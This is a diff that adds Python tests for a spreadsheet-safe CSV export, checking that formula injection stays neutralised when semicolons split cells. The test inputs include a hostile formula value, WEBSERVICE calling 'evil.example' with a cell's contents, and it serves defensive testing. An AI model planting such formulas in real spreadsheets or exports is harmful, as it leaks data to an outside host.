@@ -166,6 +166,28 @@ class TestSpreadsheetSafe:
         assert {e["type"]: e for e in events}["blocked"]["note"] == note
         assert run_json(runner, hostile, "status")[0]["name"] == name
 
+    @pytest.mark.parametrize("command", [("history",), ("history", "evil"), ("export",),
+                                         ("status",), ("status", "evil")], ids=" ".join)
+    def test_no_cell_starts_a_formula_where_semicolons_separate(self, runner, hostile,
+                                                                  command):
+        """A spreadsheet whose list separator is ``;`` (the locales of Indonesia, Turkey,
+        Brazil) splits an unquoted cell there: a platform named ``Evil;=2+2;`` and an
+        authority ``Kominfo;=WEBSERVICE(...)`` must start no formula after the split
+        either (found by a review)."""
+        for args in (("platform-registered", "semi", "--at", "2020-01-01", "--source",
+                      "https://example.org", "--name", "Evil;=2+2;", "--target", "semi.example"),
+                     ("blocked", "o-2", "--at", "2020-02-01", "--source", "https://example.org",
+                      "--platform", "semi", "--authority",
+                      'Kominfo;=WEBSERVICE("http://evil.example/"&A2);', "--target",
+                      "semi.example", "--reason", "x;-y")):
+            assert run(runner, hostile, "record", *args).exit_code == 0
+        text = run(runner, hostile, *command, "--format", "csv").stdout
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
+            rows.append(row)
+        cells = [c.strip('"') for row in rows for c in row]
+        assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells
+
     def test_numbers_and_dates_are_left_as_they_are(self):
         """Negative and signed numbers stay numbers; ISO times start with a digit; an
         apostrophe already there gains nothing (guarding twice changes nothing)."""
@@ -177,3 +199,7 @@ class TestSpreadsheetSafe:
         for value in ("-", "- a dash", "-5 targets", "=1", "@x", "\t1", "\r1", "+x"):
             assert spreadsheet_safe(value) == "'" + value
             assert spreadsheet_safe(spreadsheet_safe(value)) == "'" + value
+        for value, safe in (("a;=1", "a;'=1"), ("Evil;=2+2;", "Evil;'=2+2;"),
+                            ("x;-5;y", "x;-5;y"), (";@x", ";'@x"), ("=a;=b", "'=a;'=b")):
+            assert spreadsheet_safe(value) == safe
+            assert spreadsheet_safe(safe) == safe
